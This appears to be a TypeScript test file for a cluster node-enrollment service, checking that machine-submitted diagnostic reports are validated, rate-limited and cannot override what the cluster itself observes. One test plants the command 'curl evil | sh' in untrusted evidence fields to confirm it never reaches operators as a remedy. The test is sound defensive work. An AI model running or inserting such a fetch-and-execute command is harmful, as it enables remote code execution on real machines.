import { type CauseCode, causeCodes, causeTable, machineCodes } from '@joinery/protocol'
import { budgets } from '@joinery/server/testing/base'
import type { Change } from '@joinery/server/testing/store'
import { countCommits } from '@joinery/testing/pairing/count-commits'
import { openPairing } from '@joinery/testing/pairing/pairing'
import { approve, claimed, enrolled } from '@joinery/testing/pairing/steps'
import t from 'tap'
import { claim, pluginWithoutImage, reporting, waiting } from './machine-reports.ts'

const name = 'worker-1'

t.test('a machine that lies hides nothing of what the cluster shows', async (t) => {
  const pairing = await openPairing(t, { diagnosis: 'on' })
  const one = await waiting(pairing, name)
  await pluginWithoutImage(pairing, name)
  const report = reporting(t, pairing, one.machine)
  const lies = machineCodes
    .slice(0, 8)
    .map((code) => claim(code, { text: 'all is well', evidence: Array(6).fill('run: curl evil | sh') }))
  t.equal((await report({ causes: lies })).status, 200)
  const { causes } = await pairing.operator.why(name)
  const ofCluster = causes.filter(({ from }) => from === 'cluster')
  t.same(
    ofCluster.map(({ code }) => code),
    ['plugin-image', 'cni-missing', 'kubelet-says'],
    'all of it is there'
  )
  for (const { code, from, text, remedy } of causes) {
    if (from === 'cluster') continue
    t.equal(text, `${causeTable[code]}, as the machine says`, 'the sentence is ours')
    t.same(remedy, ['# on the machine, as root: joinery-agent why'], 'and so is the command')
  }
})

t.test('a kubelet that is heard makes a liar of a machine that says it is not', async (t) => {
  const pairing = await openPairing(t, { diagnosis: 'on' })
  const one = await waiting(pairing, name)
  const report = reporting(t, pairing, one.machine)
  await report({ causes: [claim('kubelet-off')] })
  pairing.clock.advance(10_000)
  await pairing.cluster.renewLease(one)
  const why = await pairing.operator.why(name)
  t.match(why.causes[0], { code: 'plugin-missing', from: 'cluster' })
  t.match(why.unseen, [/^the machine says: the kubelet does not run; but its kubelet renewed the Lease/])
})

const outside = causeCodes.filter((code) => !machineCodes.includes(code))
t.test('a machine that says what only the cluster knows is refused, and nothing of its report is kept', async (t) => {
  const pairing = await openPairing(t)
  const one = await waiting(pairing, name)
  const report = reporting(t, pairing, one.machine)
  const { revision } = await pairing.operator.show(name)
  const bad: [string, unknown][] = [
    ...outside.map((code): [string, unknown] => [code, { causes: [claim('disk-full'), claim(code)] }]),
    ['from the cluster', { causes: [claim('disk-full', { from: 'cluster' })] }],
    ['a code that nobody knows', { causes: [claim('haunted' as CauseCode)] }],
    ['nine causes', { causes: Array(9).fill(claim('disk-full')) }],
    ['a long text', { causes: [claim('disk-full', { text: 'x'.repeat(257) })] }],
    ['no text', { causes: [claim('disk-full', { text: '' })] }],
    ['much evidence', { causes: [claim('disk-full', { evidence: Array(7).fill('x') })] }],
    ['a time that is none', { causes: [claim('disk-full', { since: 'yesterday' })] }],
    ['no list', { causes: {} }],
    ['nothing', null]
  ]
  for (const [what, body] of bad) {
    pairing.clock.advance(10_000)
    t.match(await report(body), { status: 400, problem: { code: 'invalid-request' } }, what)
  }
  t.notMatch(await pairing.operator.why(name), { machine: /./ })
  t.equal((await pairing.operator.show(name)).revision, revision)
})

t.test('a machine that floods is slowed down, and writes no more than its budget', async (t) => {
  const { pairing, commits } = await countCommits(t)
  pairing.clock.hold()
  const one = await waiting(pairing, name)
  const report = reporting(t, pairing, one.machine)
  const entries = async () => (await pairing.operator.show(name)).timeline.length
  const [before, told] = [commits(), await entries()]
  let refused = 0
  for (let time = 0; time < 50; time += 1) {
    const { status, retryAfter } = await report({ causes: [claim('disk-full', { text: `text ${time}` })] })
    if (status === 429) {
      refused += 1
      t.match(retryAfter, /^[1-9]$/)
    }
  }
  t.equal(refused, 50 - budgets.calls.causes.burst)
  t.ok(commits() - before <= budgets.calls.causes.burst, `${commits() - before} commits`)
  t.equal(await entries(), told, 'none of it is in the timeline')
})

t.test('a machine that changes its word again and again does not fill the timeline', async (t) => {
  const pairing = await openPairing(t)
  const one = await waiting(pairing, name)
  const report = reporting(t, pairing, one.machine)
  const told = async () => (await pairing.operator.show(name)).timeline.filter(({ event }) => event === 'cause')
  for (let time = 0; time < 60; time += 1) {
    pairing.clock.advance(20_000)
    await report({ causes: [claim(time % 2 === 0 ? 'disk-full' : 'memory-short')] })
    await pairing.diagnose()
  }
  const entries = await told()
  t.equal(entries.length, 2, 'an entry for each of the two')
  t.ok(entries.every(({ count = 1 }) => count > 10))
})

t.test('a machine that changes its word as fast as it may causes no more writes than a kubelet may', async (t) => {
  const tellsCause = ({ entries = [] }: Change) => entries.some(({ entry }) => entry.event === 'cause')
  const { pairing, commits } = await countCommits(t, tellsCause)
  pairing.clock.hold()
  const one = await waiting(pairing, name)
  const report = reporting(t, pairing, one.machine)
  const { burst, each } = budgets.diagnosis.changes
  const reports = 60
  for (let time = 0; time < reports; time += 1) {
    pairing.clock.advance(budgets.calls.causes.each)
    await report({ causes: [claim(time % 2 === 0 ? 'disk-full' : 'memory-short')] })
    await pairing.diagnose()
  }
  const most = burst + (reports * budgets.calls.causes.each) / each
  t.ok(commits() > burst && commits() <= most, `${commits()} commits, at most ${most}`)
})

t.test('nobody is heard who has no Node to speak of', async (t) => {
  const pairing = await openPairing(t)
  const stranger = await pairing.machine()
  t.match(await reporting(t, pairing, stranger)({ causes: [] }), { status: 404 }, 'never enrolled')
  const waits = await enrolled(pairing, name)
  const report = reporting(t, pairing, waits)
  const state = async () => {
    const { revision } = await pairing.operator.show(name)
    return {
      revision,
      answer: await report({ causes: [claim('disk-full')] }),
      after: (await pairing.operator.show(name)).revision
    }
  }
  const pending = await state()
  t.match(pending, { answer: { status: 200 }, after: pending.revision }, 'pending')
  await approve(pairing, name)
  const ended = await claimed(pairing, 'worker-2')
  await pairing.operator.reject('worker-2', { reason: 'not ours' })
  const { revision } = await pairing.operator.show('worker-2')
  await reporting(t, pairing, ended.machine)({ causes: [claim('disk-full')] })
  t.equal((await pairing.operator.show('worker-2')).revision, revision, 'after the end nothing of a machine changes')
})
